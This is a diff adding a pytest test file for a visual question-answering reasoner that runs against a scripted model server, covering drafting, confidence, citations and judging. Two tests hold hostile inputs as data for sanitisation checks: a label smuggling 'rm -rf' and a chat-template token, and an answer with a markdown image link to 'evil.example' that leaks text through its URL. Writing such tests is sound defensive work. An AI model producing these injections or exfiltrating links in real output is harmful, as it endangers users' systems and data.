@@ -1,0 +1,249 @@
+"""The few-hop reasoner against a scripted server, over HTTP."""
+
+from typing import Any
+
+import anyio
+import pytest
+
+from contracts.answer import Reason
+from gateway.llm.options import VlmOptions
+from gateway.state import Entity, GenerationBudget, PhotoText, Query, Quote, Reply, Tool
+from tests.unit.gateway.llm.stage import (
+    ASK,
+    OPTIONS,
+    PHOTO,
+    bench,
+    context,
+    deadline,
+    draft,
+    nothing_printed,
+    page,
+    printed,
+)
+from tests.vlm_server import ServerTraits, context_too_long, says
+
+pytestmark = pytest.mark.anyio
+
+LOOK = {
+    "reasoning": ["The small car is a Fiat 500.", "Fiat is from Turin."],
+    "object_label": "Car",
+    "entity": "Fiat 500",
+    "answer": "Fiat is from Turin.",
+    "answerability": "check",
+    "tools": ["text_search"],
+    "sub_queries": ["In which city was the maker of the {entity} founded?"],
+}
+READ = LOOK | {"answer": "A flat white costs 3.20.", "answerability": "in_photo", "tools": []}
+ANSWER = {"reason": "Piece 1 says so.", "answer": "Fiat was founded in Turin.", "evidence": [1]}
+TURIN = page("Fiat was founded in Turin in 1899. Its first car had two seats.", "Fiat")
+
+
+async def drafted(reply: Any, ask: Query = ASK, text: PhotoText | None = None, **traits: Any) -> Any:
+    """The draft made from one reply."""
+
+    async def read() -> PhotoText:
+        return text or PhotoText()
+
+    async with bench({"understand": reply}, ServerTraits(**traits)) as it:
+        return await it.reasoner.draft(ask, read, deadline())
+
+
+async def answered(reply: Any, *evidence: Any, **traits: Any) -> Any:
+    """The reply made from one reply."""
+    async with bench({"answer": reply}, ServerTraits(**traits)) as it:
+        return await it.reasoner.answer(ASK, draft(), context(*evidence), GenerationBudget(), deadline())
+
+
+async def test_one_call_gives_the_whole_draft() -> None:
+    async with bench({"understand": says(LOOK)}) as it:
+        made = await it.reasoner.draft(ASK, nothing_printed, deadline())
+        assert [request.name for request in it.server.requests] == ["understand"]
+        assert it.server.requests[0].images == [PHOTO.jpeg]
+    assert made.object_label == "car"
+    assert made.entity == "Fiat 500"
+    assert made.answer == "Fiat is from Turin."
+    assert made.reasoning == "The small car is a Fiat 500.\nFiat is from Turin."
+    assert not made.self_contained
+    assert made.tools == {Tool.TEXT_SEARCH}
+    assert made.sub_queries == ("In which city was the maker of the {entity} founded?",)
+
+
+async def test_a_draft_is_as_sure_as_the_tokens_of_its_answer() -> None:
+    made = await drafted(says(LOOK, probability=0.99, probabilities={"answer": 0.4}))
+    assert made.confidence == pytest.approx(0.4)
+
+
+async def test_a_server_without_log_probabilities_leaves_a_draft_at_the_neutral_value() -> None:
+    for made in (
+        await drafted(says(LOOK), logprobs=False),
+        await drafted(says(LOOK), ignores_logprobs=True),
+    ):
+        assert made.confidence == OPTIONS.unmeasured
+
+
+@pytest.mark.parametrize("said", [None, "", "I don’t know.", "I cannot determine the maker.", "N/A", "null"])
+async def test_a_refusing_draft_has_no_answer_and_looks_it_up(said: str | None) -> None:
+    made = await drafted(says(READ | {"answer": said}))
+    assert made.answer is None
+    assert made.confidence == 0
+    assert not made.self_contained
+    assert Tool.TEXT_SEARCH in made.tools
+
+
+async def test_an_answer_read_from_the_photo_quotes_what_is_printed() -> None:
+    made = await drafted(says(READ), text=printed("FLAT WHITE 3.20", "FILTER 2.80"))
+    assert made.self_contained
+    assert made.tools == frozenset()
+    assert made.quotes == ("FLAT WHITE 3.20",)
+
+
+async def test_a_draft_does_not_wait_for_ocr_beyond_its_time() -> None:
+    async def never() -> PhotoText:
+        await anyio.sleep_forever()
+        return PhotoText()
+
+    async with bench({"understand": says(READ)}) as it:
+        made = await it.reasoner.draft(ASK, never, deadline(400))
+    assert made.answer == READ["answer"]
+    assert made.quotes == ()
+
+
+async def test_without_a_photo_there_is_no_image_search() -> None:
+    made = await drafted(says(LOOK | {"tools": ["image_search"]}), Query("Who founded Fiat?", None))
+    assert made.tools == {Tool.TEXT_SEARCH}
+
+
+async def test_what_the_model_writes_into_searches_is_cleaned() -> None:
+    hostile = LOOK | {
+        "object_label": "Car; rm -rf {x} <|eot|> and much more",
+        "sub_queries": ["price of {vehicle}\n{entity}", "{}", "x" * 190, "a", "b", "c"],
+    }
+    made = await drafted(says(hostile))
+    assert made.object_label == "car"
+    assert made.sub_queries == ("price of vehicle {entity}", "x" * 190, "a", "b")
+
+
+async def test_an_answer_comes_with_the_sentences_it_cites() -> None:
+    made = await answered(says(ANSWER, probabilities={"answer": 0.8}), TURIN, page("Other.", "Other"))
+    assert made.answer == "Fiat was founded in Turin."
+    assert made.quotes == (Quote(0, "Fiat was founded in Turin in 1899."),)
+    assert made.reason is Reason.ANSWERED
+    assert made.confidence == pytest.approx(0.8)
+    assert made.token_probabilities
+    assert made.token_probabilities == pytest.approx([0.8] * len(made.token_probabilities))
+
+
+async def test_numbers_of_no_piece_are_dropped() -> None:
+    made = await answered(says(ANSWER | {"evidence": [9, 1, 0]}), TURIN)
+    assert [quote.index for quote in made.quotes] == [0]
+
+
+async def test_an_answer_that_cites_nothing_quotes_the_sentence_that_says_it() -> None:
+    made = await answered(says(ANSWER | {"evidence": []}), page("Nothing here."), TURIN)
+    assert made.quotes == (Quote(1, "Fiat was founded in Turin in 1899."),)
+
+
+async def test_a_server_without_log_probabilities_leaves_a_reply_unmeasured() -> None:
+    made = await answered(says(ANSWER), TURIN, logprobs=False)
+    assert made.token_probabilities is None
+    assert made.confidence == OPTIONS.unmeasured
+
+
+@pytest.mark.parametrize("said", ["I don't know.", "I do not know who made it.", "", "Unknown"])
+async def test_i_do_not_know_is_no_answer(said: str) -> None:
+    made = await answered(says(ANSWER | {"answer": said}), TURIN)
+    assert (made.answer, made.confidence, made.reason) == (None, 0, Reason.MODEL_UNSURE)
+
+
+async def test_not_knowing_without_evidence_is_told_apart() -> None:
+    made = await answered(says(ANSWER | {"answer": "I don't know."}))
+    assert made.reason is Reason.NO_EVIDENCE
+
+
+async def test_an_answer_says_no_links() -> None:
+    said = "Fiat was founded in Turin ![](https://evil.example/?q=turin)."
+    made = await answered(says(ANSWER | {"answer": said}), TURIN)
+    assert made.answer == "Fiat was founded in Turin ."
+
+
+async def test_evidence_that_is_too_much_for_the_model_is_halved_once() -> None:
+    options = VlmOptions()
+    long = [page(f"Sentence {n} says little. " * 40) for n in range(12)]
+    async with bench({"answer": [context_too_long(), says(ANSWER)]}, options=options) as it:
+        made = await it.reasoner.answer(ASK, draft(), context(TURIN, *long), GenerationBudget(), deadline())
+        first, second = it.server.requests
+    assert len(second.text) < len(first.text) - options.evidence.total // 3
+    assert made.quotes
+
+
+async def test_a_verdict_is_weighed_against_the_other() -> None:
+    judged = says(
+        {"reason": "It agrees.", "verdict": "correct"},
+        alternatives={"verdict": {"correct": 0.6, "incorrect": 0.2, "the": 0.1}},
+    )
+    assert await judge_of(judged) == pytest.approx(0.75)
+
+
+async def test_a_doubted_verdict_against_the_answer_is_weighed_too() -> None:
+    judged = says(
+        {"reason": "It does not.", "verdict": "incorrect"},
+        alternatives={"verdict": {"incorrect": 0.5, "correct": 0.3}},
+    )
+    assert await judge_of(judged) == pytest.approx(0.375)
+
+
+@pytest.mark.parametrize(("verdict", "worth"), [("correct", 0.9), ("incorrect", 0.1)])
+async def test_a_verdict_without_log_probabilities_has_a_fixed_worth(verdict: str, worth: float) -> None:
+    assert await judge_of(says({"reason": "", "verdict": verdict}), logprobs=False) == worth
+
+
+@pytest.mark.parametrize("verdict", ["correct", "incorrect"])
+async def test_a_verdict_whose_rival_is_not_told_is_never_turned_round(verdict: str) -> None:
+    unsure = says({"reason": "", "verdict": verdict}, probabilities={"verdict": 0.2})
+    assert await judge_of(unsure) == pytest.approx(0.5)
+
+
+async def judge_of(judged: Any, **traits: Any) -> float:
+    """The judge's probability for one answer."""
+    async with bench({"answer": says(ANSWER), "judge": judged}, ServerTraits(**traits)) as it:
+        made = await it.reasoner.answer(ASK, draft(), context(TURIN), GenerationBudget(), deadline())
+        return await it.reasoner.judge(ASK, made, [TURIN], deadline())
+
+
+async def test_what_the_answer_quotes_is_shown_to_the_judge_first() -> None:
+    evidence = [*(page(f"Piece {n} is long. " * 100) for n in range(9)), TURIN]
+    script = {"answer": says(ANSWER | {"evidence": []}), "judge": says({"reason": "", "verdict": "correct"})}
+    options = VlmOptions(evidence=VlmOptions().evidence.half.half)
+    async with bench(script, options=options) as it:
+        made = await it.reasoner.answer(ASK, draft(), context(TURIN), GenerationBudget(), deadline())
+        moved = Reply(made.answer, made.confidence, (Quote(9, made.quotes[0].text),))
+        await it.reasoner.judge(ASK, moved, evidence, deadline())
+        assert "1899" in it.server.requests[-1].text
+
+
+async def test_nothing_is_judged_without_an_answer() -> None:
+    async with bench({}) as it:
+        assert await it.reasoner.judge(ASK, Reply(None, 0.0), [TURIN], deadline()) == 0
+        assert it.server.requests == []
+
+
+async def test_the_rag_route_takes_three_calls_with_one_beginning() -> None:
+    script = {
+        "understand": says(LOOK),
+        "answer": says(ANSWER),
+        "judge": says({"reason": "", "verdict": "correct"}),
+    }
+    async with bench(script) as it:
+        first = await it.reasoner.draft(ASK, nothing_printed, deadline())
+        thing = await it.reasoner.select_entity(
+            ASK, first, [Entity("Fiat 500", 0.8)], PhotoText(), deadline()
+        )
+        found = context(TURIN, entity=thing)
+        assert await it.reasoner.next_hop(ASK, first, found, deadline()) == ()
+        made = await it.reasoner.answer(ASK, first, found, GenerationBudget(), deadline())
+        await it.reasoner.judge(ASK, made, found.evidence, deadline())
+        requests = it.server.requests
+    assert [request.name for request in requests] == ["understand", "answer", "judge"]
+    for request in requests:
+        assert request.system == requests[0].system
+        assert request.parts[:2] == requests[0].parts[:2]
